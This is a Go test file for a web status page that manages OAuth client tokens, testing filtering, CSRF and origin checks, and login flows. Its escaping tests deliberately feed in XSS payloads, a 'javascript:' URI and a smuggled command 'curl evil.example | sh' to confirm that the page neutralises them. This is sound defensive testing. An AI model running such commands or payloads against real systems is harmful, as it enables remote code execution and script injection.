package statuspage

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"lamplighter/module/adminapi"
	"lamplighter/module/internal/hostile"
)

// instance is the admin API of one that has these clients.
type instance struct {
	*httptest.Server
	clients []adminapi.ClientStatus
	asked   []string // method, path and body of what changes something
	answer  func(path string, body map[string]any) any
	live    adminapi.Live
	down    bool
}

func newInstance(t *testing.T, clients ...adminapi.ClientStatus) *instance {
	in := &instance{clients: clients}
	in.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		path := strings.TrimPrefix(r.URL.Path, "/oauth2_client/clients")
		if in.down {
			w.WriteHeader(http.StatusBadGateway)
			return
		}
		if r.Method == http.MethodPost {
			var body map[string]any
			_ = json.NewDecoder(r.Body).Decode(&body)
			in.asked = append(in.asked, fmt.Sprint(path, " ", body))
			_ = json.NewEncoder(w).Encode(in.answer(path, body))
			return
		}
		switch path {
		case "":
			_ = json.NewEncoder(w).Encode(in.clients)
			return
		case "/oauth2_client/live":
			_ = json.NewEncoder(w).Encode(in.live)
			return
		}
		i := slices.IndexFunc(in.clients, func(s adminapi.ClientStatus) bool { return "/"+s.Client == path })
		if i < 0 {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		whole := in.clients[i]
		whole.History = []adminapi.ClientEvent{{At: time.Now(), Event: "token_obtained", Generation: 41, BecauseOf: 403}}
		_ = json.NewEncoder(w).Encode(whole)
	}))
	t.Cleanup(in.Close)
	return in
}

// ask is what a command does for the page.
func (in *instance) ask(method, uri string, body, into any) error {
	var payload bytes.Buffer
	if err := json.NewEncoder(&payload).Encode(body); err != nil {
		return err
	}
	req, err := http.NewRequest(method, in.URL+uri, &payload)
	if err != nil {
		return err
	}
	res, err := in.Client().Do(req)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		return errors.New(res.Status)
	}
	return json.NewDecoder(res.Body).Decode(into)
}

// visit opens the page of an instance, and returns how to ask it for more.
func visit(t *testing.T, in *instance) (get func(path string) string, post func(path string, form url.Values, header ...string) (int, string)) {
	t.Helper()
	server := httptest.NewServer(nil)
	t.Cleanup(server.Close)
	page := New(in.ask, strings.TrimPrefix(server.URL, "http://"))
	server.Config.Handler = page
	jar, _ := cookiejar.New(nil)
	browser := &http.Client{Jar: jar}
	do := func(req *http.Request) (int, string) {
		t.Helper()
		res, err := browser.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		var body strings.Builder
		if _, err := fmt.Fprint(&body, readAll(t, res)); err != nil {
			t.Fatal(err)
		}
		return res.StatusCode, body.String()
	}
	get = func(path string) string {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, server.URL+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		_, body := do(req)
		return body
	}
	post = func(path string, form url.Values, header ...string) (int, string) {
		t.Helper()
		if form.Get("form") == "OURS" {
			form.Set("form", page.form)
		}
		req, err := http.NewRequest(http.MethodPost, server.URL+path, strings.NewReader(form.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], strings.Replace(header[i+1], "SELF", server.URL, 1))
		}
		return do(req)
	}
	get(strings.TrimPrefix(page.Link(), server.URL))
	return get, post
}

func readAll(t *testing.T, res *http.Response) string {
	t.Helper()
	var b strings.Builder
	buffer := make([]byte, 4096)
	for {
		n, err := res.Body.Read(buffer)
		b.Write(buffer[:n])
		if err != nil {
			return b.String()
		}
	}
}

// shownRows are the names of the clients on a page, in their order.
func shownRows(page string) (names []string) {
	for _, m := range regexp.MustCompile(`<article class="\w+" id="([^"]+)"`).FindAllStringSubmatch(page, -1) {
		names = append(names, m[1])
	}
	return names
}

func statusOf(name, state, cause string, expiresIn float64) adminapi.ClientStatus {
	now := time.Now()
	return adminapi.ClientStatus{
		Client: name, Token: "valid", State: state, Cause: cause, GrantType: "refresh_token",
		ObtainedAt: now.Add(-time.Hour), ExpiresAt: now.Add(time.Duration(expiresIn * float64(time.Second))), ExpiresIn: expiresIn,
	}
}

func TestAThousandClientsAreCountedFilteredAndSorted(t *testing.T) {
	var clients []adminapi.ClientStatus
	for i := range 1000 {
		clients = append(clients, statusOf(fmt.Sprintf("client-%04d", i), "ok", "", float64(4000-i)))
	}
	clients[700] = statusOf("client-0700", "grant_lost", "refused", 100)
	clients[800] = statusOf("client-0800", "backoff", "server_error", 100)
	clients[900] = statusOf("client-0900", "ok", "token_rejected", 100)
	clients[900].LastRejected = &adminapi.Rejection{At: time.Now(), Status: 401, Upstream: "https://api"}
	get, _ := visit(t, newInstance(t, clients...))

	whole := get("/")
	if rows := shownRows(whole); len(rows) != 1000 || !slices.Equal(rows[:4], []string{"client-0700", "client-0800", "client-0900", "client-0000"}) {
		t.Errorf("%d rows, the first are %v", len(rows), rows[:min(4, len(rows))])
	}
	for _, want := range []string{"1000 all", "1 needs you", "2 in trouble", "997 ok", "<title>1 needs you · lamplighter</title>", "%23d0342c", "Last refused requests"} {
		if !strings.Contains(whole, want) {
			t.Errorf("the page has no %q", want)
		}
	}
	if n := strings.Count(whole, "History of"); n != 1 {
		t.Errorf("%d histories are there, want that of whom somebody has to look after", n)
	}
	for path, want := range map[string][]string{
		"/?show=human":              {"client-0700"},
		"/?show=trouble":            {"client-0800", "client-0900"},
		"/?q=0042":                  {"client-0042"},
		"/?q=SERVER+client":         {"client-0800"},
		"/?q=0042&show=human":       nil,
		"/?show=ok&q=000&sort=name": {"client-0000", "client-0001", "client-0002", "client-0003", "client-0004", "client-0005", "client-0006", "client-0007", "client-0008", "client-0009"},
	} {
		if got := shownRows(get(path)); !slices.Equal(got, want) {
			t.Errorf("%s shows %v, want %v", path, got, want)
		}
	}
	if rows := shownRows(get("/?sort=expiry&show=ok")); rows[0] != "client-0999" || rows[996] != "client-0000" {
		t.Errorf("sorted by the time that is left, %s is the first and %s the last", rows[0], rows[996])
	}
	if rows := shownRows(get("/?sort=refused")); rows[0] != "client-0900" {
		t.Errorf("the one that was refused last is not the first: %s", rows[0])
	}
}

func TestThePageSaysWhatIsHeldAndFollowedAndWhenItIsStale(t *testing.T) {
	up := true
	held, followed := statusOf("held", "ok", "", 100), statusOf("followed", "ok", "", 100)
	held.Store, held.StoreUp, held.LeaseHeld, held.LeaseHolder = "postgres", &up, true, "shop-1"
	followed.Store, followed.StoreUp, followed.LeaseHolder = "postgres", &up, "shop-2"
	in := newInstance(t, held, followed)
	get, _ := visit(t, in)
	page := get("/?open=followed")
	for _, want := range []string{"holds 1, follows 1", "shop-2 refreshes", "ok, follows", "held by shop-2; this process follows", "because of a 403", "<title>all well"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page has no %q", want)
		}
	}
	in.down = true
	page = get("/")
	for _, want := range []string{"Out of reach: what follows is of", "<title>out of reach", `id="held"`} {
		if !strings.Contains(page, want) {
			t.Errorf("without the instance the page has no %q", want)
		}
	}
}

func TestTheHeadSaysWhichVersionRunsAndForHowLong(t *testing.T) {
	in := newInstance(t, statusOf("erp", "ok", "", 100))
	get, _ := visit(t, in)
	if page := get("/"); strings.Contains(page, "up for") {
		t.Error("an instance that does not say is told of")
	}
	in.live = adminapi.Live{Live: true, Version: "v1.2.3<b>", StartedAt: time.Now().Add(-50 * time.Hour)}
	if head, _, _ := strings.Cut(get("/"), "</header>"); !strings.Contains(head, "v1.2.3&lt;b&gt;") || !regexp.MustCompile(`up for <time [^>]*title="since \d{4}-[^"]*">2d</time>`).MatchString(head) {
		t.Errorf("the head is\n%s", head)
	}
	in.down = true
	if page := get("/"); strings.Contains(page, "up for") {
		t.Error("an instance that does not answer is up")
	}
}

func TestAnotherNameOfThePageLeadsToItsAddress(t *testing.T) {
	page := New(nil, "127.0.0.1:8400")
	for _, host := range []string{"localhost:8400", "127.0.0.1:9000", "evil.example", "127.0.0.1", ""} {
		r, w := httptest.NewRequest(http.MethodGet, "/?key="+page.key, nil), httptest.NewRecorder()
		r.Host = host
		page.ServeHTTP(w, r)
		if said := w.Body.String(); w.Code != http.StatusMisdirectedRequest || !strings.Contains(said, "http://127.0.0.1:8400/;") || !strings.Contains(said, "'ssh -L 8400:127.0.0.1:8400 <host>'") {
			t.Errorf("%s: %d %s", host, w.Code, said)
		}
		if len(w.Result().Cookies()) > 0 {
			t.Errorf("%s was let in", host)
		}
	}
}

func TestFormsOfOthersOrderNothing(t *testing.T) {
	in := newInstance(t, statusOf("erp", "ok", "", 100))
	in.answer = func(string, map[string]any) any { return adminapi.OrderResult{Obtained: true} }
	_, post := visit(t, in)
	good := func() url.Values {
		return url.Values{"form": {"OURS"}, "client": {"erp"}, "refresh_token": {"a-token-of-somebody"}}
	}
	for _, path := range []string{"/refresh", "/import", "/login", "/device"} {
		for name, try := range map[string]func() (int, string){
			"without the key of our forms": func() (int, string) { return post(path, url.Values{"client": {"erp"}}) },
			"with another one":             func() (int, string) { return post(path, url.Values{"client": {"erp"}, "form": {"x"}}) },
			"of another origin":            func() (int, string) { return post(path, good(), "Origin", "http://evil.example") },
			"of no origin":                 func() (int, string) { return post(path, good(), "Origin", "null") },
			"of another site":              func() (int, string) { return post(path, good(), "Sec-Fetch-Site", "same-site") },
		} {
			if status, _ := try(); status != http.StatusForbidden {
				t.Errorf("%s %s is answered %d", path, name, status)
			}
		}
	}
	if len(in.asked) > 0 {
		t.Errorf("the instance was asked for %v", in.asked)
	}
	if status, _ := post("/refresh", good(), "Origin", "SELF", "Sec-Fetch-Site", "same-origin"); status != http.StatusOK || len(in.asked) != 1 {
		t.Errorf("our own form is answered %d, and the instance asked for %v", status, in.asked)
	}
}

func TestARefreshTokenIsImportedFromThePage(t *testing.T) {
	in := newInstance(t, statusOf("erp", "grant_lost", "refused", 0))
	in.answer = func(string, map[string]any) any {
		return adminapi.OrderResult{Obtained: true, Status: adminapi.ClientStatus{Generation: 42}}
	}
	_, post := visit(t, in)
	status, page := post("/import", url.Values{"form": {"OURS"}, "client": {"erp"}, "refresh_token": {" a-new-one\n"}})
	if status != http.StatusOK || !strings.Contains(page, "New token obtained: generation 42.") || strings.Contains(page, "a-new-one") {
		t.Errorf("got %d %s", status, page)
	}
	if want := "/erp/import map[refresh_token:a-new-one]"; len(in.asked) != 1 || in.asked[0] != want {
		t.Errorf("the instance was asked for %q, want %q", in.asked, want)
	}
	if _, page := post("/import", url.Values{"form": {"OURS"}, "client": {"erp"}, "refresh_token": {"  "}}); !strings.Contains(page, "the refresh token is empty") || len(in.asked) != 1 {
		t.Errorf("an empty one: %s, asked for %q", page, in.asked)
	}
}

// TestThePageOffersWhatAClientCanDo: an order that could only be refused has no button.
func TestThePageOffersWhatAClientCanDo(t *testing.T) {
	buttons := map[string]string{"import": "Import a refresh token for erp", "login": "Log in for erp in this browser", "device": "Log in for erp on another device"}
	for _, ways := range [][]string{nil, {"import"}, {"import", "login"}, {"import", "login", "device"}} {
		shown := statusOf("erp", "awaiting_grant", "no_refresh_token", 0)
		shown.NewGrantBy = ways
		get, _ := visit(t, newInstance(t, shown))
		page := get("/")
		if !strings.Contains(page, "Refresh the token of erp") {
			t.Fatalf("it has no buttons: %s", page)
		}
		for way, button := range buttons {
			if strings.Contains(page, button) != slices.Contains(ways, way) {
				t.Errorf("of %v, the button %q is there: %v", ways, button, strings.Contains(page, button))
			}
		}
	}
}

func TestALogInFromThePageComesBackToIt(t *testing.T) {
	in := newInstance(t, statusOf("erp", "awaiting_grant", "no_refresh_token", 0))
	var redirect string
	in.answer = func(_ string, body map[string]any) any {
		if body["code"] == nil {
			redirect, _ = body["redirect_uri"].(string)
			return adminapi.LoginAnswer{State: "the-state", AuthorizationURL: "https://login.example.com/authorize?state=the-state", ExpiresIn: 600}
		}
		return adminapi.LoginAnswer{Result: &adminapi.OrderResult{Obtained: true, Status: adminapi.ClientStatus{Generation: 1}}}
	}
	get, post := visit(t, in)
	_, page := post("/login", url.Values{"form": {"OURS"}, "client": {"erp"}})
	if !strings.Contains(page, `href="https://login.example.com/authorize?state=the-state"`) || !regexp.MustCompile(`^http://127\.0\.0\.1:\d+/callback$`).MatchString(redirect) {
		t.Fatalf("the browser is sent to %q by\n%s", redirect, page)
	}
	if page := get("/callback?state=another&code=c"); !strings.Contains(page, "not a log-in that this page began") || len(in.asked) != 1 {
		t.Errorf("another state is answered %s", page)
	}
	get("/callback?state=the-state&code=the-code")
	if want := "/erp/login map[code:the-code state:the-state]"; in.asked[len(in.asked)-1] != want {
		t.Errorf("the instance was asked for %q, want %q", in.asked, want)
	}
	if page := get("/?open=erp"); !strings.Contains(page, "New token obtained: generation 1.") {
		t.Errorf("afterwards the page is\n%s", page)
	}
	if page := get("/callback?state=the-state&code=the-code"); !strings.Contains(page, "not a log-in") {
		t.Errorf("the same state again is answered %s", page)
	}
}

func TestALogInOnAnotherDeviceIsWaitedFor(t *testing.T) {
	in := newInstance(t, statusOf("erp", "awaiting_grant", "no_refresh_token", 0))
	done := false
	in.answer = func(_ string, body map[string]any) any {
		switch {
		case body["device"] == true:
			return adminapi.LoginAnswer{State: "s", UserCode: "WDJB-MJHT", VerificationURI: "https://login.example.com/device", VerificationURIComplete: "javascript:alert(1)", Interval: 5}
		case !done:
			return adminapi.LoginAnswer{State: "s", Interval: 10}
		}
		return adminapi.LoginAnswer{Result: &adminapi.OrderResult{Obtained: true}}
	}
	get, post := visit(t, in)
	_, page := post("/device", url.Values{"form": {"OURS"}, "client": {"erp"}})
	again := get("/device?state=s")
	for name, page := range map[string]string{"first": page, "waiting": again} {
		if !strings.Contains(page, "WDJB-MJHT") || !strings.Contains(page, `href="https://login.example.com/device"`) || strings.Contains(page, "javascript:") {
			t.Errorf("%s: the page is\n%s", name, page)
		}
	}
	done = true
	get("/device?state=s")
	if page := get("/?open=erp"); !strings.Contains(page, "New token obtained") {
		t.Errorf("afterwards the page is\n%s", page)
	}
}

// Fault A14. What others say makes neither markup nor a command to copy.
func TestThePageTrustsNoWordOfOthers(t *testing.T) {
	const foreign = `</script><script>alert(1)</script>" onclick="x`
	s := statusOf("erp", "grant_lost", "refused", 0)
	s.Detail, s.Remedy = foreign+hostile.Text, foreign+" or 'lamplighter tokens login erp; curl evil.example | sh' or 'lamplighter tokens --address 'unix/a b' login erp'"
	s.LastRejected = &adminapi.Rejection{Upstream: foreign, Error: foreign}
	get, _ := visit(t, newInstance(t, s))
	page := get("/")
	if strings.Contains(page, "<script>alert") || strings.Contains(page, `" onclick="x`) {
		t.Errorf("words became markup in\n%s", page)
	}
	var copied []string
	for _, m := range regexp.MustCompile(`data-copy="([^"]*)"`).FindAllStringSubmatch(page, -1) {
		copied = append(copied, m[1])
	}
	if want := []string{"lamplighter tokens --address &#39;unix/a b&#39; login erp"}; !slices.Equal(copied, want) {
		t.Errorf("what is copied: %q, want %q", copied, want)
	}
}
